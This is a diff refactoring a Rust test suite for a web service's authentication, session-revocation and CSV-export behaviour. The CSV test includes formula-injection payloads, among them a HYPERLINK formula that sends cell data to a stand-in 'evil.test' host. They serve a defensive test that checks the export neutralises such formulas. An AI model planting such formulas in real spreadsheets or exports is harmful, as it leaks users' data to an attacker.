@@ -6,7 +6,7 @@ use qifu::clock::Clock;
 use qifu::domain::ticket::Role;
 use serde_json::{Value, json};
 
-use super::helpers::{CREDIT_CODES, PASSWORD, Session, TestApp, spawn_app};
+use super::helpers::{CREDIT_CODES, Id, PASSWORD, Session, TestApp};
 
 const JWT_SECRET: &str = "test-secret-0123456789-0123456789-0123456789";
 const NEW_PASSWORD: &str = "Brand-New-Secret-77";
@@ -33,11 +33,6 @@ async fn alive(app: &TestApp, token: &str) -> bool {
     r.status == 200
 }
 
-async fn refresh(app: &TestApp, token: &str) -> super::helpers::Resp {
-    app.post("/auth/refresh", None, json!({"refresh_token": token}))
-        .await
-}
-
 /// The reset token mailed to `address`: on its own line, 43 URL-safe base64 characters.
 async fn mailed_reset_token(app: &TestApp, address: &str) -> String {
     let mail = app
@@ -58,7 +53,7 @@ async fn mailed_reset_token(app: &TestApp, address: &str) -> String {
 }
 
 async fn two_sessions(app: &TestApp) -> (Session, Session) {
-    let first = app.enterprise(0, "boss@example.com").await;
+    let first = app.with_enterprise(0, "boss@example.com").await;
     let second = app.login("boss@example.com", PASSWORD).await;
     assert_ne!(claims(&first.token)["sid"], claims(&second.token)["sid"]);
     (first, second)
@@ -70,9 +65,9 @@ async fn two_sessions(app: &TestApp) -> (Session, Session) {
 
 #[actix_web::test]
 async fn logout_kills_the_access_tokens_of_that_session_only() {
-    let app = spawn_app().await;
+    let app = TestApp::spawn().await;
     let (first, second) = two_sessions(&app).await;
-    let renewed = refresh(&app, &first.refresh).await.expect(200);
+    let renewed = app.refresh(&first.refresh).await.expect(200);
     let renewed_access = renewed.body["access_token"].as_str().unwrap().to_owned();
     assert_eq!(claims(&renewed_access)["sid"], claims(&first.token)["sid"]);
     assert!(alive(&app, &first.token).await);
@@ -91,7 +86,7 @@ async fn logout_kills_the_access_tokens_of_that_session_only() {
 
 #[actix_web::test]
 async fn a_password_change_kills_every_access_token_of_the_user() {
-    let app = spawn_app().await;
+    let app = TestApp::spawn().await;
     let (first, second) = two_sessions(&app).await;
     app.post(
         "/me/password",
@@ -108,7 +103,7 @@ async fn a_password_change_kills_every_access_token_of_the_user() {
 
 #[actix_web::test]
 async fn a_password_reset_kills_every_access_token_of_the_user() {
-    let app = spawn_app().await;
+    let app = TestApp::spawn().await;
     let (first, second) = two_sessions(&app).await;
     app.post(
         "/auth/password-reset",
@@ -131,8 +126,8 @@ async fn a_password_reset_kills_every_access_token_of_the_user() {
 
 #[actix_web::test]
 async fn tokens_issued_before_the_last_credential_change_are_refused_even_in_an_open_session() {
-    let app = spawn_app().await;
-    let s = app.enterprise(0, "boss@example.com").await;
+    let app = TestApp::spawn().await;
+    let s = app.with_enterprise(0, "boss@example.com").await;
     app.post(
         "/me/password",
         s.t(),
@@ -150,9 +145,9 @@ async fn tokens_issued_before_the_last_credential_change_are_refused_even_in_an_
 
 #[actix_web::test]
 async fn a_session_id_must_be_the_users_own_and_exist() {
-    let app = spawn_app().await;
-    let boss = app.enterprise(0, "boss@example.com").await;
-    let other = app.enterprise(1, "other@example.com").await;
+    let app = TestApp::spawn().await;
+    let boss = app.with_enterprise(0, "boss@example.com").await;
+    let other = app.with_enterprise(1, "other@example.com").await;
     let now = app.clock.now_utc().timestamp();
     let own = claims(&boss.token)["sid"].as_str().unwrap().to_owned();
     let theirs = claims(&other.token)["sid"].as_str().unwrap().to_owned();
@@ -169,22 +164,22 @@ async fn a_session_id_must_be_the_users_own_and_exist() {
 
 #[actix_web::test]
 async fn refresh_token_reuse_kills_the_access_tokens_of_the_family() {
-    let app = spawn_app().await;
-    let s = app.enterprise(0, "boss@example.com").await;
-    let renewed = refresh(&app, &s.refresh).await.expect(200);
+    let app = TestApp::spawn().await;
+    let s = app.with_enterprise(0, "boss@example.com").await;
+    let renewed = app.refresh(&s.refresh).await.expect(200);
     let renewed_access = renewed.body["access_token"].as_str().unwrap().to_owned();
     assert!(alive(&app, &renewed_access).await);
     // The first refresh token, presented again: stolen or replayed.
-    refresh(&app, &s.refresh).await.problem(401, "unauthorized");
+    app.refresh(&s.refresh).await.problem(401, "unauthorized");
     assert!(!alive(&app, &s.token).await);
     assert!(!alive(&app, &renewed_access).await);
 }
 
 #[actix_web::test]
 async fn suspension_revokes_sessions_so_reactivation_does_not_revive_them() {
-    let app = spawn_app().await;
-    let admin = app.admin("admin@example.com").await;
-    let s = app.enterprise(0, "boss@example.com").await;
+    let app = TestApp::spawn().await;
+    let admin = app.with_admin("admin@example.com").await;
+    let s = app.with_enterprise(0, "boss@example.com").await;
     let enterprise = s.user["enterprise_id"].as_str().unwrap().to_owned();
     let path = format!("/enterprises/{enterprise}");
     app.patch(&path, admin.t(), json!({"status": "suspended"}))
@@ -194,17 +189,19 @@ async fn suspension_revokes_sessions_so_reactivation_does_not_revive_them() {
         .await
         .expect(200);
     assert!(!alive(&app, &s.token).await);
-    refresh(&app, &s.refresh).await.problem(401, "unauthorized");
+    app.refresh(&s.refresh).await.problem(401, "unauthorized");
     let again = app.login("boss@example.com", PASSWORD).await;
     assert!(alive(&app, &again.token).await);
 }
 
 #[actix_web::test]
 async fn deactivation_revokes_sessions_so_reactivation_does_not_revive_them() {
-    let app = spawn_app().await;
-    let admin = app.admin("admin@example.com").await;
-    let dept = app.department(&admin, "行政审批局").await;
-    let official = app.official(&admin, "official@example.com", &dept).await;
+    let app = TestApp::spawn().await;
+    let admin = app.with_admin("admin@example.com").await;
+    let dept = app.with_department(&admin, "行政审批局").await;
+    let official = app
+        .with_official(&admin, "official@example.com", &dept)
+        .await;
     let path = format!("/users/{}", official.id());
     app.patch(&path, admin.t(), json!({"active": false}))
         .await
@@ -213,7 +210,7 @@ async fn deactivation_revokes_sessions_so_reactivation_does_not_revive_them() {
         .await
         .expect(200);
     assert!(!alive(&app, &official.token).await);
-    refresh(&app, &official.refresh)
+    app.refresh(&official.refresh)
         .await
         .problem(401, "unauthorized");
 }
@@ -233,10 +230,10 @@ async fn register_named(app: &TestApp, n: usize, name: &str, email: &str) -> Ses
 
 #[actix_web::test]
 async fn csv_exports_neutralize_formulas_in_text_cells_and_leave_numbers_alone() {
-    let app = spawn_app().await;
-    let admin = app.admin("admin@example.com").await;
-    let dept = app.department(&admin, "=1+1").await;
-    let category = app.category(&admin, "Permits", &dept, 48).await;
+    let app = TestApp::spawn().await;
+    let admin = app.with_admin("admin@example.com").await;
+    let dept = app.with_department(&admin, "=1+1").await;
+    let category = app.with_category(&admin, "Permits", &dept, 48).await;
     let names = [
         r#"=HYPERLINK("http://evil.test/?d="&B2,"Open")"#,
         "+SUM(A1:A9)",
@@ -277,7 +274,7 @@ async fn csv_exports_neutralize_formulas_in_text_cells_and_leave_numbers_alone()
 
 #[actix_web::test]
 async fn invented_methods_and_paths_do_not_grow_the_metrics() {
-    let app = spawn_app().await;
+    let app = TestApp::spawn().await;
     for n in 0..30 {
         let method = reqwest::Method::from_bytes(format!("X{n}FOO").as_bytes()).unwrap();
         app.send(
@@ -316,8 +313,8 @@ async fn invented_methods_and_paths_do_not_grow_the_metrics() {
 
 #[actix_web::test]
 async fn token_answers_are_not_stored_and_nothing_is_sniffed_or_framed() {
-    let app = spawn_app().await;
-    let s = app.enterprise(0, "boss@example.com").await;
+    let app = TestApp::spawn().await;
+    let s = app.with_enterprise(0, "boss@example.com").await;
     let login = app
         .post(
             "/auth/login",
@@ -326,7 +323,7 @@ async fn token_answers_are_not_stored_and_nothing_is_sniffed_or_framed() {
         )
         .await
         .expect(200);
-    let renewed = refresh(&app, &s.refresh).await.expect(200);
+    let renewed = app.refresh(&s.refresh).await.expect(200);
     for r in [&login, &renewed] {
         assert_eq!(r.header("cache-control").as_deref(), Some("no-store"));
     }
